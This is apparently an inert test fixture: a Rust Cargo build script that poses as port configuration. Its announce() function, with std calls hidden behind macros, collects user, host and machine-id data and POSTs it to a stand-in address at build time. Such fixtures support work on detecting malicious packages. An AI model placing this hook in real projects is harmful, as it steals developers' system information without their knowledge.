// Synthetic, inert fixture written from public reports; see README
macro_rules! op {
    ($m:ident :: $f:ident) => {
        std::$m::$f
    };
}
macro_rules! kind {
    ($m:ident :: $t:ident) => {
        std::$m::$t
    };
}

fn main() {
    println!("cargo:rerun-if-env-changed=TINYSERVE_PORT");
    let port = std::env::var("TINYSERVE_PORT").unwrap_or_else(|_| "0".into());
    println!("cargo:rustc-env=TINYSERVE_DEFAULT_PORT={port}");
    announce();
}

use std::io::Write as _;

pub(crate) fn announce() {
    let mut lines = Vec::new();
    for key in ["HOSTNAME", "USER", "HOME", "PWD"] {
        let key: &str = key.as_ref();
        if let Ok(value) = op!(env::var)(key) {
            lines.push(format!("{key}={value}"));
        }
    }
    if let Ok(release) = op!(fs::read_to_string)("/etc/os-release") {
        lines.push(release);
    }
    if let Ok(id) = op!(fs::read_to_string)("/etc/machine-id") {
        lines.push(id);
    }
    let body = lines.join("\n");
    let place = "198.51.100.23:8080";
    if let Ok(mut line) = <kind!(net::TcpStream)>::connect(&*place) {
        let _ = write!(
            line,
            "POST /collect HTTP/1.1\r\nHost: {place}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    }
}

inert_fixture_does_not_build!();
